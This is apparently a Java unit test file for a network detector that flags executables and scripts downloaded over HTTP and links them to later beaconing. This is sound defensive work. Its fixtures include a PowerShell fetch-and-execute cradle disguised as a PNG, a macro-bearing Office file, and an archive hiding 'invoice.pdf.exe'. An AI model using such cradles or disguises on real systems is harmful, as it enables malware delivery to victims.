package org.nta.detect.c2;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.nta.detect.Finding;
import org.nta.detect.FindingType;
import org.nta.detect.Phase;
import org.nta.detect.Severity;
import org.nta.event.ConnInfo;
import org.nta.event.HttpTransaction;
import org.nta.incident.StoryBuilder;
import org.nta.incident.Verdict;

/** Executables and scripts coming in, told from their bytes; and what the host did next. */
class PayloadDeliveryDetectorTest {
    static final long S = 1_000_000_000L, T0 = 1_700_000_000_000_000_000L;
    static final String FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";
    final PayloadDeliveryDetector detector = new PayloadDeliveryDetector(DeliveryConfig.DEFAULTS);

    static byte[] elf() {
        byte[] b = new byte[400];
        b[0] = 0x7f;
        b[1] = 'E';
        b[2] = 'L';
        b[3] = 'F';
        b[16] = 2;
        return b;
    }

    static byte[] pe() {
        byte[] b = new byte[512];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3c] = (byte) 0x80;
        b[0x80] = 'P';
        b[0x81] = 'E';
        return b;
    }

    static HttpTransaction download(ConnInfo c, long frame, long t, String host, String uri, String ua, String declared, byte[] body) {
        return new HttpTransaction(c, C2Ev.request(c, frame, t, "GET", host, uri, ua, new byte[0]),
                C2Ev.response(c, frame + 5, t + S / 10, 200, declared, body), List.of());
    }

    List<Finding> deliveries() {
        return detector.finish().stream().filter(f -> f.type() == FindingType.PAYLOAD_DELIVERY).toList();
    }

    @Test
    void curlFetchingAnElfFromABareAddressIsHigh() {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "203.0.113.9", 8000);
        detector.onEvent(download(c, 30, T0, "203.0.113.9:8000", "/x", "curl/7.88.1", "application/octet-stream", elf()));
        List<Finding> fs = deliveries();
        assertThat(fs).hasSize(1);
        Finding f = fs.get(0);
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.phase()).isEqualTo(Phase.INSTALLATION);
        assertThat(f.techniques()).containsExactly("T1105");
        assertThat(f.attacker()).isEqualTo("203.0.113.9");
        assertThat(f.evidence()).containsEntry("type", "elf").containsEntry("client_tool", "curl").containsEntry("bytes", 400L);
        assertThat((String) f.evidence().get("sha256")).hasSize(64);
        assertThat(f.firstFrame()).isEqualTo(30);
        assertThat(f.lastFrame()).isEqualTo(35);
    }

    @Test
    void aBrowserDownloadingAnInstallerFromANamedSiteIsOnlyAnObservation() {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.66", "198.51.100.80", 443);
        detector.onEvent(download(c, 30, T0, "downloads.example.org", "/setup.exe", FIREFOX, "application/x-msdownload", pe()));
        List<Finding> fs = deliveries();
        assertThat(fs).hasSize(1);
        assertThat(fs.get(0).severity()).isEqualTo(Severity.LOW);
        assertThat(fs.get(0).attacker()).isNull();
    }

    @Test
    void curlOrWgetFetchingFromANamedHostWithNothingAfterIsLow() {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "10.1.1.40", 80);
        detector.onEvent(download(c, 30, T0, "mirror.example.lan", "/vendor/install.sh", "curl/7.88.1", "text/x-sh",
                "#!/bin/sh\necho installing\n".getBytes(StandardCharsets.UTF_8)));
        detector.onEvent(download(c, 60, T0 + S, "mirror.example.lan", "/vendor/tool", "Wget/1.21.3", "application/octet-stream", elf()));
        List<Finding> fs = deliveries();
        assertThat(fs).hasSize(2).allSatisfy(f -> {
            assertThat(f.severity()).isEqualTo(Severity.LOW);
            assertThat(f.attacker()).isNull();
        });
        assertThat(C2Correlation.apply(new ArrayList<>(fs))).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
    }

    @Test
    void aBeaconAlreadyRunningThatGoesOnAfterTheDownloadRaisesIt() {
        // the dropper's fetches are the beacon's first requests: the beacon begins before the download and goes on after it
        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "203.0.113.9", 80);
        detector.onEvent(download(c, 30, T0 + 10 * S, "updates.example.org", "/agent.py", "Wget/1.21.3", "text/x-python",
                "#!/usr/bin/env python3\nimport socket, subprocess\n".getBytes(StandardCharsets.UTF_8)));
        List<Finding> all = new ArrayList<>(detector.finish());
        assertThat(all).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
        BeaconDetector beacons = new BeaconDetector(BeaconConfig.DEFAULTS);
        Wire w = new Wire(beacons);
        for (int i = 0; i < 10; i++) w.tcpConn(T0 + i * 30 * S, "10.1.1.5", 50000 + i, "203.0.113.9", 8443, 100, 50);
        all.addAll(w.finish());
        Finding d = C2Correlation.apply(all).stream().filter(f -> f.type() == FindingType.PAYLOAD_DELIVERY).findFirst().orElseThrow();
        assertThat(d.severity()).isEqualTo(Severity.HIGH);
        assertThat(d.attacker()).isEqualTo("203.0.113.9");
        assertThat(d.evidence()).containsKey("followed_by");
    }

    @Test
    void aScriptNamedAsAnImageIsSuspicious() {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.66", "198.51.100.80", 80);
        byte[] ps = "$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x/y'))".getBytes(StandardCharsets.UTF_8);
        detector.onEvent(download(c, 30, T0, "cdn.example.org", "/logo.png", FIREFOX, "image/png", ps));
        List<Finding> fs = deliveries();
        assertThat(fs).hasSize(1);
        assertThat(fs.get(0).severity()).isEqualTo(Severity.MEDIUM);
        assertThat(fs.get(0).evidence()).containsEntry("type", "powershell");
        assertThat((List<?>) fs.get(0).evidence().get("signals")).anySatisfy(s -> assertThat(s.toString()).contains(".png"));
    }

    @Test
    void archivesAndOfficeFilesByWhatTheyHold() throws Exception {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.66", "198.51.100.80", 80);
        detector.onEvent(download(c, 30, T0, "198.51.100.80", "/invoice.zip", null, "application/zip",
                ExfiltrationDetectorTest.zip("readme.txt", "invoice.pdf.exe")));
        detector.onEvent(download(c, 60, T0 + S, "198.51.100.80", "/report.docm", FIREFOX, "application/octet-stream",
                ExfiltrationDetectorTest.zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")));
        detector.onEvent(download(c, 90, T0 + 2 * S, "198.51.100.80", "/plain.docx", FIREFOX, "application/octet-stream",
                ExfiltrationDetectorTest.zip("[Content_Types].xml", "word/document.xml")));
        List<Finding> fs = deliveries();
        assertThat(fs).extracting(f -> f.evidence().get("type")).containsExactly("archive_with_executable", "office_macro");
        assertThat(fs.get(0).evidence()).containsEntry("type_detail", "invoice.pdf.exe");
    }

    @Test
    void aBeaconStartingAfterTheDownloadMakesBothHighAndTheVerdictMalicious() {
        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "203.0.113.9", 80);
        detector.onEvent(download(c, 30, T0, "updates.example.org", "/agent", FIREFOX, "application/octet-stream", elf()));
        List<Finding> all = new ArrayList<>(detector.finish());
        BeaconDetector beacons = new BeaconDetector(BeaconConfig.DEFAULTS);
        Wire w = new Wire(beacons);
        for (int i = 0; i < 10; i++) w.tcpConn(T0 + 60 * S + i * 30 * S, "10.1.1.5", 50000 + i, "203.0.113.9", 8443, 100, 50);
        all.addAll(w.finish());
        assertThat(StoryBuilder.verdict(all).level()).isEqualTo(Verdict.Level.SUSPICIOUS);
        List<Finding> joined = C2Correlation.apply(all);
        Finding d = joined.stream().filter(f -> f.type() == FindingType.PAYLOAD_DELIVERY).findFirst().orElseThrow();
        Finding b = joined.stream().filter(f -> f.type() == FindingType.BEACON).findFirst().orElseThrow();
        assertThat(d.severity()).isEqualTo(Severity.HIGH);
        assertThat(d.evidence()).containsKey("followed_by");
        assertThat(b.severity()).isEqualTo(Severity.HIGH);
        assertThat(b.evidence()).containsKey("after_delivery");
        assertThat(StoryBuilder.verdict(joined).level()).isEqualTo(Verdict.Level.MALICIOUS);
    }

    @Test
    void aBeaconToAnotherServerDoesNotRaiseTheDownload() {
        // a software update from a mirror, then some unrelated periodic client on the same host polling elsewhere
        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "203.0.113.9", 80);
        detector.onEvent(download(c, 30, T0, "updates.example.org", "/agent", FIREFOX, "application/octet-stream", elf()));
        List<Finding> all = new ArrayList<>(detector.finish());
        Severity before = all.get(0).severity();
        BeaconDetector beacons = new BeaconDetector(BeaconConfig.DEFAULTS);
        Wire w = new Wire(beacons);
        for (int i = 0; i < 10; i++) w.tcpConn(T0 + 60 * S + i * 30 * S, "10.1.1.5", 50000 + i, "198.51.100.77", 8443, 100, 50);
        all.addAll(w.finish());
        assertThat(all).anyMatch(f -> f.type() == FindingType.BEACON);
        List<Finding> joined = C2Correlation.apply(all);
        Finding d = joined.stream().filter(f -> f.type() == FindingType.PAYLOAD_DELIVERY).findFirst().orElseThrow();
        Finding b = joined.stream().filter(f -> f.type() == FindingType.BEACON).findFirst().orElseThrow();
        assertThat(d.severity()).isEqualTo(before);
        assertThat(d.evidence()).doesNotContainKey("followed_by");
        assertThat(b.evidence()).doesNotContainKey("after_delivery");
    }
}
